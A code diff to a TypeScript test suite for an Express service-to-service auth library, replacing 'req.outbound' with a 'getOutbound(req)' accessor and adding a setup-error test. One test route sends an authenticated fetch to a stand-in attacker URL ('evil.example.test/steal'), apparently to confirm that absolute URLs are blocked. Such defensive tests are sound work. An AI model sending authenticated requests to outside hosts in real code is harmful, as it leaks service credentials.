@@ -6,7 +6,7 @@ import { createServer, type Server } from 'node:http';
 import express from 'express';
 import express4 from 'express4';
 import request from 'supertest';
-import { clientCredentials, OutboundTokenError, outboundAuth } from 'express-m2m';
+import { clientCredentials, getOutbound, OutboundTokenError, outboundAuth } from 'express-m2m';
 import type { OutboundAuthMiddleware, OutboundAuthOptions, OutboundServiceClient } from 'express-m2m';
 import { createLocalIssuer } from 'express-m2m/testing';
 import type { LocalIssuer } from 'express-m2m/testing';
@@ -74,12 +74,12 @@ describe.each(versions)('%s: req.outbound gives handlers authenticated clients',
     const application = makeApp();
     application.use(outbound);
     application.get('/by-name', (req, res, next) => {
-      req.outbound.fetch('billing', '/invoices?order=42')
+      getOutbound(req).fetch('billing', '/invoices?order=42')
         .then(async (response) => res.status(response.status).json(await response.json()))
         .catch(next);
     });
     application.get('/by-property', (req, res, next) => {
-      (req.outbound as unknown as Named).ledger.fetch('entries')
+      (getOutbound(req) as unknown as Named).ledger.fetch('entries')
         .then(async (response) => res.status(response.status).json(await response.json()))
         .catch(next);
     });
@@ -87,7 +87,7 @@ describe.each(versions)('%s: req.outbound gives handlers authenticated clients',
       res.json({ same: req.outbound === outbound.clients });
     });
     application.get('/absolute', (req, res, next) => {
-      req.outbound.fetch('billing', 'http://evil.example.test/steal').then(() => res.end(), next);
+      getOutbound(req).fetch('billing', 'http://evil.example.test/steal').then(() => res.end(), next);
     });
     application.use((error: Error & { status?: number; code?: string }, _req: express.Request, res: express.Response, _next: express.NextFunction) => {
       res.status(error.status ?? 500).json({ name: error.name, code: error.code ?? null });
@@ -140,7 +140,7 @@ describe.each(versions)('%s: req.outbound gives handlers authenticated clients',
     const application = makeApp();
     application.use(outbound);
     application.get('/x', (req, _res, next) => {
-      req.outbound.service('billing').getToken().catch((error: OutboundTokenError) => {
+      getOutbound(req).service('billing').getToken().catch((error: OutboundTokenError) => {
         expect(error).toBeInstanceOf(OutboundTokenError);
         expect(error.cause.status).toBe(503);
         next(error);
@@ -193,5 +193,11 @@ describe('bad options fail at construction, naming the option', () => {
     [{ services: { billing: { baseUrl: 'http://x.test', provider: {} } } }, /services\.billing: "provider"/],
   ])('%#', (options, message) => {
     expect(() => outboundAuth(options as unknown as OutboundAuthOptions)).toThrow(message);
+  });
+});
+
+describe('getOutbound(req): the typed accessor of req.outbound', () => {
+  it('throws a TypeError naming the setup mistake on a request outboundAuth() did not run for', () => {
+    expect(() => getOutbound({})).toThrow(/req\.outbound is not set: mount outboundAuth\(\) before this route/);
   });
 });
